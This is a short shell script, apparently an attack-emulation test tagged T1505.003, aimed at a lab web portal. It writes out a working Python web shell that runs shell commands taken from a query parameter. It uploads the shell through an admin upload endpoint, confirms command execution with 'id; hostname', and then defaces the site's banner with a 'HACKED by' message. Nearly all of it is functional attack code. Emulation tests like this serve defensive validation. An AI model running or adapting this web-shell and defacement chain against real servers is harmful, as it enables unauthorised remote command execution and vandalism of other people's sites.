# T1505.003: upload a Python web shell to the portal and run a command through it; then
# deface the home page with it. Succeeds when the shell runs the attacker's command.
shell='import os, subprocess, urllib.parse
q = dict(urllib.parse.parse_qsl(os.environ.get("QUERY_STRING", "")))
print(subprocess.run(q.get("c", "id"), shell=True, capture_output=True, text=True).stdout)'
curl -s -m 5 -o /dev/null -A "Mozilla/5.0" --data-urlencode name=thumb.py \
  --data-urlencode "data=$shell" http://web:8080/admin/upload
out=$(curl -s -m 5 -G http://web:8080/uploads/thumb.py --data-urlencode "c=id; hostname")
case "$out" in
  *uid=*)
    curl -s -m 5 -o /dev/null -G http://web:8080/uploads/thumb.py --data-urlencode \
      "c=echo '<h2>HACKED by Kelompok Bayangan</h2>' > /srv/portal/static/banner.html"
    echo "web shell runs commands: $out"
    exit 0 ;;
esac
echo "no web shell runs commands"
exit 1
